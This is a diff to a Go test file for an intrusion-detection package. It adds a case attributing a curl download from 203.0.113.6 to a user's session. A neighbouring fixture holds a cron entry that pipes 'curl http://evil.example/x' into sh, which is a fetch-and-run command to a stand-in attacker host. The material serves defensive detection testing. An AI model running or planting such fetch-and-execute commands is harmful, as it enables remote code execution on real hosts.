@@ -53,6 +53,7 @@ func TestContacted(t *testing.T) {
 		{"without times, the account is his alone", "possible ssh db1 as bob", []detect.Finding{bob, outgoing("bob", "", "ssh", "db1", "ssh db1", "")}},
 		{"without times, and others had it", "", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "ssh", "db1", "ssh db1", "")}},
 		{"without times, root's, and an administrator was root", "", []detect.Finding{bob, root, amyThere, sudo("amy", "03:20:00"), outgoing("root", "", "ssh", "db1", "ssh db1", "")}},
+		{"without times, to where he came from", "likely download 203.0.113.6 as bob", []detect.Finding{bob, login(detect.Login, "bob", "198.51.100.2", "publickey", "01:00:00", "01:10:00", detect.Access{FirstOfAccount: true}), outgoing("bob", "", "download", "203.0.113.6", "curl http://203.0.113.6/x", "")}},
 		{"a packet of the web server", "confirmed connection 10.0.0.5 as www-data", []detect.Finding{shell, packet}},
 		{"one that went before, too", "", []detect.Finding{shell, before}},
 		{"what he left calls", "likely download evil.example as root", []detect.Finding{bob, root, cron("/etc/cron.d/x", "curl http://evil.example/x | sh", detect.Critical, "03:02:00")}},
